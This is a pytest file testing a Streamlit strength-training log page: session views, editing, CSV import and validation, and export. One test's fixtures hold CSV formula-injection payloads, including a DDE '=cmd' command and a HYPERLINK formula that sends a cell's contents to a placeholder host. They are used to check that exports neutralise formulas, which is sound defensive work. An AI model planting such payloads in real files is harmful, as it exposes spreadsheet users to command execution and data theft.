"""Strength log page: sessions with their kind, the editor with the exercise catalogue, CSV
import with row problems by line, export, and a read-only sample view."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
import streamlit as st

from legday.csv_export import FORMULA_LEADS
from legday.store import open_store, strength_entries
from legday.strength.catalogue import load_catalogue
from legday.strength.log import read_legday_csv
from legday.ui.state import LOCAL_ATHLETE

PAGE = "views/strength.py"
LOG = (b"date,exercise,sets,reps,weight_kg,rpe,duration_min,notes\n"
       b"2025-03-01,Back squat,3,5,100,8,,heavy\n"
       b"2025-03-01,Zorb ball juggling,2,10,,,,\n"
       b"2025-03-01,Lunge,-1,8,20,11,,\n"
       b"2025-03-03,Bench press,4,8,60,7,,\n")


@pytest.fixture()
def own_copy(own_db, tmp_path) -> str:
    """The sample season owned by the local athlete, in a copy this test may write to."""
    path = tmp_path / "own.db"
    shutil.copy(own_db.removeprefix("sqlite:///"), path)
    return f"sqlite:///{path}"


def _local_entries(url: str):
    store = open_store(url)
    try:
        return strength_entries(store.athlete(LOCAL_ATHLETE))
    finally:
        store.close()


def _pick_lifting_session(at, url: str):
    """Choose the latest logged session with exercises in the editor; (entries, its key)."""
    stored = _local_entries(url)
    lifting = stored[(stored["source"] == "legday_csv") & stored["exercise"].notna()]
    key = str(lifting["session"].iloc[-1])
    at.selectbox(key="strength_session").set_value(key).run()
    assert not at.exception
    return stored, key


@pytest.fixture()
def downloads(monkeypatch) -> list[object]:
    """What the page hands to st.download_button (AppTest keeps no file behind it)."""
    seen: list[object] = []
    original = st.download_button

    def recording(label, data, *args, **kwargs):
        seen.append(data)
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", recording)
    return seen


def test_the_sample_view_is_read_only_with_sessions_and_export(make_app, sample_db):
    at = make_app(sample_db, PAGE)
    assert not at.exception
    assert at.title[0].value == "Strength log"
    assert "sample season" in at.info[0].value
    assert not at.data_editor
    assert not at.get("file_uploader")
    assert not at.button  # no save, delete or load
    sessions = at.dataframe[0].value
    assert len(sessions) > 10
    assert set(sessions["kind"]) <= {"lower body", "upper body", "core", "full body",
                                     "unknown (no mapped exercise)"}
    assert "lower body" in set(sessions["kind"])
    assert any("read-only" in i.value for i in at.info)
    assert at.get("download_button")


def test_an_empty_log_says_what_to_do_and_offers_the_editor(make_app, empty_db):
    at = make_app(empty_db, PAGE, sample=False)
    assert not at.exception
    assert any("No strength sessions yet" in i.value for i in at.info)
    assert len(at.data_editor) == 1
    assert at.data_editor[0].value.empty
    assert not at.get("download_button")


def test_the_editor_offers_the_catalogue_and_shows_unmapped_names(make_app, own_copy):
    at = make_app(own_copy, PAGE, sample=False)
    assert not at.exception
    editor = at.data_editor[0]
    config = str(editor.proto.columns)
    for exercise in list(load_catalogue().exercises)[:5]:
        assert exercise.name in config
    # Pick the latest session of the log: its rows are in the editor, each with its match.
    session = at.selectbox(key="strength_session")
    # Plain text: an emoji shows as a missing-glyph box on a browser without emoji fonts.
    assert session.options[0] == "+ New session"
    stored, latest = _pick_lifting_session(at, own_copy)
    rows = at.data_editor[0].value
    assert list(rows["exercise"]) == list(stored.loc[stored["session"] == latest, "exercise"])
    assert rows["matched"].notna().all()


def test_saving_an_unchanged_session_keeps_it(make_app, own_copy):
    at = make_app(own_copy, PAGE, sample=False)
    before, key = _pick_lifting_session(at, own_copy)
    at.button(key="strength_save").click().run()
    assert not at.exception
    assert any("Saved" in s.value for s in at.success)
    after = _local_entries(own_copy)
    cols = ["session", "exercise", "sets", "reps", "weight_kg", "rpe", "notes", "is_warmup"]
    mine = before[before["session"] == key][cols].reset_index(drop=True)
    again = after[after["session"] == key][cols].reset_index(drop=True)
    assert mine.equals(again)
    assert len(after) == len(before)


def test_deleting_a_session_removes_its_entries(make_app, own_copy):
    at = make_app(own_copy, PAGE, sample=False)
    before, key = _pick_lifting_session(at, own_copy)
    at.button(key="strength_delete").click().run()
    assert not at.exception
    after = _local_entries(own_copy)
    assert key not in set(after["session"])
    assert len(after) == len(before) - int((before["session"] == key).sum())


def test_importing_a_csv_shows_the_bad_row_by_line_and_loads_the_rest(make_app, empty_db):
    at = make_app(empty_db, PAGE, sample=False)
    at.file_uploader(key="strength_csv").set_value(("log.csv", LOG, "text/csv")).run()
    assert not at.exception
    problems = at.dataframe[-1].value
    assert list(problems["line"]) == [4]
    assert "sets -1 is negative" in problems["problem"].iloc[0]
    assert "rpe 11" in problems["problem"].iloc[0]
    assert any("3 rows read (2 sessions), 1 row(s) with problems" in m.value
               for m in at.markdown)
    at.button(key="strength_load").click().run()
    assert not at.exception
    assert any("3 rows added, 0 already stored" in s.value for s in at.success)
    stored = _local_entries(empty_db)
    assert list(stored["exercise"]) == ["Back squat", "Zorb ball juggling", "Bench press"]
    # The unmapped name is kept and said to be unmapped.
    assert any("Zorb ball juggling (1)" in w.value for w in at.warning)
    kinds = set(at.dataframe[0].value["kind"])
    assert kinds == {"lower body", "upper body"}


def test_a_file_that_is_no_strength_log_is_refused_with_the_reason(make_app, empty_db):
    at = make_app(empty_db, PAGE, sample=False)
    at.file_uploader(key="strength_csv").set_value(("other.csv", b"a,b\n1,2\n",
                                                    "text/csv")).run()
    assert not at.exception
    assert "unknown strength log header" in at.error[0].value
    assert not any(b.key == "strength_load" for b in at.button)


def test_the_export_is_the_log_in_legday_csv(make_app, own_copy, downloads):
    at = make_app(own_copy, PAGE, sample=False)
    assert not at.exception
    assert at.get("download_button")
    text = str(downloads[-1])
    assert text.startswith("date,exercise,sets,reps,weight_kg,rpe,duration_min,notes\r\n")
    back = read_legday_csv(text.encode(), name="export.csv")
    assert not back.problems
    assert len(back.entries) == len(_local_entries(own_copy))


def test_saving_an_empty_new_session_says_there_is_nothing_to_save(make_app, empty_db):
    at = make_app(empty_db, PAGE, sample=False)
    at.button(key="strength_save").click().run()
    assert not at.exception
    assert "Nothing to save" in at.error[0].value
    assert _local_entries(empty_db).empty


#: A Strong export and a legday log whose names and notes a spreadsheet would run.
STRONG_FORMULAS = (
    b"Date,Workout Name,Duration,Exercise Name,Set Order,Weight,Reps,Distance,Seconds,Notes,"
    b"Workout Notes,RPE\n"
    b"2025-03-05 18:02:11,=cmd|' /C calc'!A1,1h 5m,Squat (Barbell),1,100,5,0,0,"
    b"\"=HYPERLINK(\"\"https://tracker.example/?d=\"\"&A1,\"\"click\"\")\",+1+2,8\n"
    b"2025-03-05 18:02:11,=cmd|' /C calc'!A1,1h 5m,@SUM(A1:A9),1,60,8,0,0,-2+3,+1+2,7\n"
)
LEGDAY_FORMULAS = (
    b"date,exercise,sets,reps,weight_kg,rpe,duration_min,notes\n"
    b"2025-03-07,\"=HYPERLINK(\"\"https://tracker.example\"\",\"\"x\"\")\",3,5,80,8,,\"\t=1+1\"\n"
    b"2025-03-07,Lunge,3,8,20,7,,\"\r=cmd|' /C calc'!A1\"\n"
)


def test_formulas_in_imported_logs_are_text_in_the_download(make_app, empty_db, downloads):
    at = make_app(empty_db, PAGE, sample=False)
    for name, data in (("strong.csv", STRONG_FORMULAS), ("log.csv", LEGDAY_FORMULAS)):
        at.file_uploader(key="strength_csv").set_value((name, data, "text/csv")).run()
        at.button(key="strength_load").click().run()
        assert not at.exception
    stored = _local_entries(empty_db)
    texts = {t for t in [*stored["exercise"], *stored["notes"]] if isinstance(t, str)}
    assert {"@SUM(A1:A9)", "-2+3", "=1+1"} <= texts  # stored as they came (trimmed)

    text = str(downloads[-1])
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len(cells) == 8 * (len(stored) + 1)
    formulas = [c for c in cells if c.startswith(FORMULA_LEADS) and not _is_number(c)]
    assert formulas == []
    assert "'=HYPERLINK(\"https://tracker.example\",\"x\")" in cells
    back = read_legday_csv(text.encode(), name="export.csv").entries
    assert set(back["exercise"].dropna()) == set(stored["exercise"].dropna())
    assert set(back["notes"].dropna()) == set(stored["notes"].dropna())


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


REPEATED_SETS = (Path(__file__).parents[1] / "strength" / "fixtures"
                 / "strong_repeated_sets.csv").read_bytes()


def test_a_strong_log_with_identical_sets_loads_every_row_once(make_app, empty_db):
    at = make_app(empty_db, PAGE, sample=False)
    upload = ("strong.csv", REPEATED_SETS, "text/csv")
    at.file_uploader(key="strength_csv").set_value(upload).run()
    assert any("20 rows read (2 sessions), 0 row(s) with problems" in m.value
               for m in at.markdown)
    assert at.button(key="strength_load").label == "Load 20 rows"
    at.button(key="strength_load").click().run()
    assert not at.exception
    assert any("20 rows added, 0 already stored" in s.value for s in at.success)
    shown = at.dataframe[0].value  # newest session first
    assert shown["working sets"].tolist() == [9, 10]
    assert shown["lower tonnage (kg)"].tolist() == ["480", "4486"]
    # The same file again in another visit: every row is already there.
    again = make_app(empty_db, PAGE, sample=False)
    again.file_uploader(key="strength_csv").set_value(upload).run()
    again.button(key="strength_load").click().run()
    assert any("0 rows added, 20 already stored" in s.value for s in again.success)
    assert len(_local_entries(empty_db)) == 22


def test_a_loaded_file_shows_its_result_instead_of_the_load_button(make_app, empty_db):
    at = make_app(empty_db, PAGE, sample=False)
    at.file_uploader(key="strength_csv").set_value(("strong.csv", REPEATED_SETS,
                                                    "text/csv")).run()
    at.button(key="strength_load").click().run()
    assert not at.exception
    # The rerun after loading still holds the file: its result is shown, no second offer.
    assert at.get("button") and not [b for b in at.button if b.key == "strength_load"]
    assert any("20 rows added, 0 already stored" in i.value for i in at.info)
    at.run()
    assert not [b for b in at.button if b.key == "strength_load"]
    # A different file is offered again.
    at.file_uploader(key="strength_csv").set_value(("log.csv", LOG, "text/csv")).run()
    assert at.button(key="strength_load").label == "Load 3 rows"


def test_empty_cells_are_blank_not_none(make_app, sample_db, own_copy):
    at = make_app(sample_db, PAGE)
    for table in (at.dataframe[0].value, at.dataframe[1].value):  # sessions, entries
        cells = table.drop(columns=["date"]).astype(object)
        assert not cells.isna().any().any()
        assert not cells.isin(["None", "nan", "NaN"]).any().any()
    assert (at.dataframe[0].value["RPE"] == "").any()  # the sample leaves some RPE out
    at = make_app(own_copy, PAGE, sample=False)
    _pick_lifting_session(at, own_copy)
    rows = at.data_editor[0].value.drop(columns=["row", "date"]).astype(object)
    assert not rows.isna().any().any()
    assert (rows == "").any().any()
    # A whole-session row (minutes, no exercise) has a blank exercise and saves unchanged.
    stored = _local_entries(own_copy)
    whole = stored[stored["exercise"].isna()]
    at.selectbox(key="strength_session").set_value(str(whole["session"].iloc[-1])).run()
    row = at.data_editor[0].value.iloc[0]
    assert row["exercise"] == "(whole session)" and row["duration_min"] != ""
    at.button(key="strength_save").click().run()
    assert not at.exception and any("Saved" in s.value for s in at.success)
    assert len(_local_entries(own_copy)) == len(stored)


def test_an_edited_value_that_is_no_number_is_refused(make_app, own_copy):
    from legday.strength.log import entries_from_editor

    stored, key = _local_entries(own_copy), None
    own = stored[stored["exercise"].notna()].head(1).reset_index(drop=True)
    table = own[["date", "exercise", "sets", "reps", "weight_kg", "rpe", "duration_min",
                 "notes"]].assign(row=[0], sets=["three"], reps=["5"], weight_kg=[""],
                                  rpe=[None], duration_min=[""], notes=[""])
    assert entries_from_editor(table, own, key) == "sets 'three' is not a number"
    parsed = entries_from_editor(table.assign(sets=[" 3 "]), own, "s1")
    assert not isinstance(parsed, str)
    assert parsed[["sets", "reps"]].iloc[0].tolist() == [3.0, 5.0]
    assert parsed[["weight_kg", "rpe", "duration_min"]].isna().all().all()
    assert parsed["notes"].isna().all()


def test_icons_are_material_symbols_not_emoji(make_app, sample_db, empty_db):
    # Headless Chromium has no emoji font: an emoji icon is drawn as a missing-glyph box.
    at = make_app(sample_db, PAGE)
    alerts = [*at.warning, *at.info]
    assert alerts and all(not a.icon or a.icon.startswith(":material/") for a in alerts)
    at = make_app(empty_db, PAGE, sample=False)
    at.file_uploader(key="strength_csv").set_value(("log.csv", LOG, "text/csv")).run()
    assert all(not a.icon or a.icon.startswith(":material/") for a in at.warning)
